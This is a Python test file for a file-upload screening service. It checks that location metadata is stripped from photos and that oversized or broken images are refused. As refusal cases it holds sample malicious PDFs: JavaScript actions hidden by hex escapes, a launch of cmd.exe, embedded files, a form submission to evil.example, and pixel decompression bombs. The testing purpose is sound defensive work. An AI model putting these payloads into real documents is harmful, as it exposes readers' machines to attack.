"""M16, A57-A59: what players did not mean to send is gone, and what does something is not taken."""

import asyncio
import contextlib
import io
import resource
import time
from typing import Any

import httpx
import pytest
from PIL import Image

from handoff.domain.errors import FileRefused, TooMany
from handoff.storage.screening import ProcessScreening
from tests.api.calls import PNG, error, good, upload
from tests.api.world import World
from tests.attacks.files import SECRET_WORDS, a_gif, a_pdf, a_picture, with_position
from tests.faults.running import Server
from tests.faults.test_endings import a_session

FORMS = {"JPEG": "image/jpeg", "PNG": "image/png", "WEBP": "image/webp"}
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.fixture
async def screened(world: World) -> World:
    """A desk that looks into files, as the composition root makes it."""
    world.refit(screening=ProcessScreening())
    return world


def spent_by_children() -> float:
    """Processor time of processes that have ended."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


async def kept(world: World, content: bytes, name: str = "photo.jpg") -> bytes:
    """What others get of a file that a player uploads."""
    session = await world.session()
    file = good(await upload(world, session, content, name))
    headers = {"Authorization": f"Bearer {session['access_token']}"}
    answer = await world.http.get(f"/api/attachments/{file['id']}", headers=headers)
    assert len(answer.content) == file["size_bytes"]
    return answer.content


async def refusal(world: World, content: bytes) -> str:
    answer = await upload(world, await world.session(), content)
    assert error(answer) == (422, "file_refused")
    return str(answer.json()["error"]["params"]["reason"])


@pytest.mark.parametrize("form", FORMS)
async def test_a_picture_does_not_tell_where_it_was_taken(screened: World, form: str) -> None:
    sent = with_position(form)
    assert SECRET_WORDS in sent and Image.open(io.BytesIO(sent)).getexif().get_ifd(0x8825)
    got = await kept(screened, sent)
    assert SECRET_WORDS not in got
    picture = Image.open(io.BytesIO(got))
    assert (picture.format, picture.size) == (form, (64, 40))
    assert not picture.getexif() and not {"exif", "xmp", "icc_profile", "comment", "Comment"} & {*picture.info}
    left, right = picture.convert("RGB").getpixel((8, 20)), picture.convert("RGB").getpixel((56, 20))
    assert left[0] > 150 > left[2] and right[2] > 150 > right[0], "and it is the same picture"


async def test_a_picture_stays_upright_without_its_orientation(screened: World) -> None:
    picture = Image.open(io.BytesIO(await kept(screened, with_position("JPEG", orientation=6))))
    assert picture.size == (40, 64)
    assert picture.convert("RGB").getpixel((20, 8))[0] > 150, "red is on top"


@pytest.mark.parametrize(
    ("mode", "form"),
    [("L", "PNG"), ("1", "PNG"), ("P", "PNG"), ("RGBA", "PNG"), ("I;16", "PNG"), ("CMYK", "JPEG"), ("RGBA", "WEBP")],
)
async def test_every_kind_of_picture_is_painted(screened: World, mode: str, form: str) -> None:
    made = io.BytesIO()
    Image.new("L", (30, 20), 128).convert(mode).save(made, form)
    assert Image.open(io.BytesIO(await kept(screened, made.getvalue()))).size == (30, 20)


async def test_a_transparent_picture_stays_so(screened: World) -> None:
    made = io.BytesIO()
    Image.new("P", (8, 8), 0).save(made, "PNG", transparency=0)
    assert Image.open(io.BytesIO(await kept(screened, made.getvalue()))).convert("RGBA").getpixel((1, 1))[3] == 0


async def test_an_animation_plays_on_without_its_comment(screened: World) -> None:
    got = await kept(screened, a_moving_gif())
    picture = Image.open(io.BytesIO(got))
    assert (picture.n_frames, picture.info["duration"]) == (3, 120)
    assert SECRET_WORDS not in got


def a_moving_gif() -> bytes:
    frames = [Image.new("RGB", (16, 16), (shade, 0, 0)) for shade in (0, 100, 200)]
    made = io.BytesIO()
    frames[0].save(made, "GIF", save_all=True, append_images=frames[1:], duration=120, comment=SECRET_WORDS)
    return made.getvalue()


async def test_a57_a_gif_of_sixty_thousand_frames_is_refused_in_time(screened: World) -> None:
    before = spent_by_children()
    assert await refusal(screened, a_gif(60_000)) == "broken"
    assert await refusal(screened, a_gif(150, (4000, 4000))) == "broken", "too many pixels in all"
    assert spent_by_children() - before < 6


@pytest.mark.parametrize("content", [with_position("JPEG")[:400], PNG])
async def test_what_is_no_whole_picture_is_refused(screened: World, content: bytes) -> None:
    assert await refusal(screened, content) == "broken"


async def test_a57_a_picture_that_unpacks_to_gigabytes_ends_nothing_but_its_own_process() -> None:
    made = io.BytesIO()
    Image.new("1", (7000, 7000)).save(made, "PNG")  # 49 million pixels in some kilobytes: at the edge of what is taken
    screening = ProcessScreening()
    assert Image.open(io.BytesIO(await screening.passed("image/png", made.getvalue()))).size == (7000, 7000)
    made = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(made, "PNG")
    with pytest.raises(FileRefused):  # also where nobody looked at its head before
        await screening.passed("image/png", made.getvalue())


async def test_the_loop_goes_on_while_pictures_are_painted(screened: World) -> None:
    content = a_picture("JPEG", (6000, 6000))
    ours, theirs = time.process_time(), spent_by_children()
    assert await ProcessScreening().passed("image/jpeg", content)
    assert time.process_time() - ours < 0.1
    assert spent_by_children() - theirs > 0.3, "it takes long, elsewhere"


async def test_more_files_than_can_be_looked_at_are_not_queued_for_ever() -> None:
    screening = ProcessScreening(at_once=1, waiting=3)
    came = await asyncio.gather(
        *(screening.passed("image/jpeg", a_picture()) for _ in range(5)), return_exceptions=True
    )
    assert [isinstance(one, TooMany) for one in came] == [False] * 3 + [True] * 2


PLAIN = (
    a_pdf(),
    a_pdf(b"<< /Type /Action /S /GoTo /D [2 0 R /Fit] >>"),
    a_pdf(b"<< /JavaScripts 1 /Launchpad 2 >>"),
    a_pdf(packed=b"5 0 << /Type /Font >>"),
    a_pdf(b"<< /Title (about JavaScript) >>"),
)
ACTIVE = (
    a_pdf(SCRIPT),
    a_pdf(b"<< /S /J#61vaScript /JS (1) >>"),
    a_pdf(b"<</S/#4a#61#76#61#53#63#72#69#70#74/JS(1)>>"),
    a_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    a_pdf(b"<< /Type /Filespec /EF << /F 9 0 R >> >> << /Type /EmbeddedFile >>"),
    a_pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
    a_pdf(packed=b"5 0 " + SCRIPT),
    a_pdf(packed=b"5 0 << /S /J#61vaScript >>"),
    a_pdf(packed=b"5 0 " + SCRIPT, head=b"/Type /Obj#53tm /Filter /FlateDecode"),
    a_pdf(packed=b"5 0 " + SCRIPT, head=b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]").replace(
        b"x\x9c", b"78"
    ),
    a_pdf(packed=b" " * 40_000_000),
    a_pdf().replace(b"trailer\n<<", b"trailer\n<< /Encrypt 8 0 R"),
)


@pytest.mark.parametrize("content", PLAIN)
async def test_a_pdf_that_is_only_read_is_taken_as_it_is(screened: World, content: bytes) -> None:
    assert await kept(screened, content, "statement.pdf") == content


@pytest.mark.parametrize("content", ACTIVE, ids=range(len(ACTIVE)))
async def test_a59_a_pdf_that_does_something_is_refused(screened: World, content: bytes) -> None:
    assert await refusal(screened, content) == "unsafe"


@pytest.mark.parametrize(
    "body",
    [
        b"/ObjStm stream\n" * 600_000,
        b"1 0 obj /ObjStm stream\n" + b"x" * 9_000_000,
        b"obj" * 3_000_000,
        b"#4" * 4_500_000,
        b"".join(b"1 0 obj <</Type/ObjStm>> stream\n" + b"x\x9c\x03\x00\x00\x00\x00\x01" for _ in range(200_000))
        + b"endstream",
    ],
    ids=["streams", "long", "objects", "escapes", "packed"],
)
async def test_a_pdf_costs_what_its_length_is(body: bytes) -> None:
    before = spent_by_children()
    with contextlib.suppress(FileRefused):
        await ProcessScreening().passed("application/pdf", b"%PDF-1.7\n" + body)
    assert spent_by_children() - before < 6


async def test_the_running_server_looks_into_files(server: Server) -> None:
    session = await a_session(server)

    async def answer(content: bytes) -> httpx.Response:
        headers = {"Authorization": f"Bearer {session['access_token']}", "X-File-Name": "photo.jpg"}
        async with httpx.AsyncClient(base_url=server.origin, trust_env=False, timeout=30) as http:
            return await http.post("/api/visitor/attachments", content=content, headers=headers)

    file: dict[str, Any] = good(await answer(with_position("JPEG")))
    [stored] = (server.var / "uploads").iterdir()
    assert stored.name == file["id"] and SECRET_WORDS not in stored.read_bytes()
    assert error(await answer(a_pdf(SCRIPT))) == (422, "file_refused")
